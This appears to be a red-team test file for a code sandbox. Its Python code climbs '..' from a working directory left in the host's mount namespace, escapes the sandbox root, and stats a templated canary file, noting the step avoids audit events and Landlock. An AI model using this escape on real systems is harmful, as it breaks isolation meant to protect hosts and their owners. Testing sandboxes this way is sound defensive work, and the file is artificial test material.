# technique: the warm child's cwd is a directory opened in the daemon's mount namespace; the kernel stops `..` only at the process root, so climbing from the cwd reaches the host's /, where os.stat (no audit event, not covered by Landlock) probes any host file
# goal: read
# redteam: E37 E48
import os

import pandas as pd

root = os.stat("/")
path = "."
for _ in range(64):
    here = os.stat(path)
    up = os.stat(path + "/..")
    if (up.st_dev, up.st_ino) == (here.st_dev, here.st_ino):
        break
    path += "/.."
top = os.stat(path)
if (top.st_dev, top.st_ino) == (root.st_dev, root.st_ino):
    raise PermissionError("the cwd climbs only to the sandbox root")
canary = os.stat(path + "{{CANARY_FILE}}")
df = pd.DataFrame({"size": [canary.st_size], "mtime": [canary.st_mtime], "uid": [canary.st_uid]})
